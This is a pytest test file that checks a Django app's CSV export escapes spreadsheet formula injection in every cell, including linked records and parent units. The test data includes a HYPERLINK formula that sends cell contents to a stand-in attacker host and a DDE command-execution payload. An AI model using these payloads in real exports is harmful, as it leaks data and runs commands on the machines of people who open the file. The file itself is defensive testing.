"""Finding (issue 15): CSV formula injection through linked records. The writer escaped only cells that were
already text, so a unit, its parent unit or a traveller (a record whose str() is a name someone typed) went out as
a live formula. One escaping step now applies to every cell at the writer."""

import csv
import io
from decimal import Decimal
from typing import Any

import pytest

from anwei.core.csvstream import rows_as_csv
from anwei.directory.models import Unit

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"點我")'


class Named:
    """A record linked from a row: its str() is what someone typed."""

    def __init__(self, name: str) -> None:
        self.name = name

    def __str__(self) -> str:
        return self.name


def _read(chunks: Any) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(chunks).lstrip("\ufeff"))))


def test_every_cell_is_escaped_whatever_its_source() -> None:
    rows = [[Named(FORMULA), Named("@SUM(1+1)"), "+886-3-822", "-1+2", 42, -3, Decimal("-1.5"), None, "王小明"]]
    (_header, row) = _read(rows_as_csv(["a", "b", "c", "d", "e", "f", "g", "h", "i"], rows))
    assert row == ["'" + FORMULA, "'@SUM(1+1)", "'+886-3-822", "'-1+2", "42", "-3", "-1.5", "", "王小明"]


def test_units_export_escapes_the_parent_unit(world: Any, client_for: Any) -> None:
    parent = world.units["a"]
    Unit.objects.filter(pk=parent.pk).update(name="=1+cmd|' /C calc'!A0")
    response = client_for("admin").get("/directory/units.csv")
    assert response.status_code == 200
    rows = _read(chunk.decode() for chunk in response.streaming_content)
    a1 = next(r for r in rows if r[0] == world.units["a1"].name)
    assert "'=1+cmd|' /C calc'!A0" in a1
    assert "=1+cmd|' /C calc'!A0" not in a1
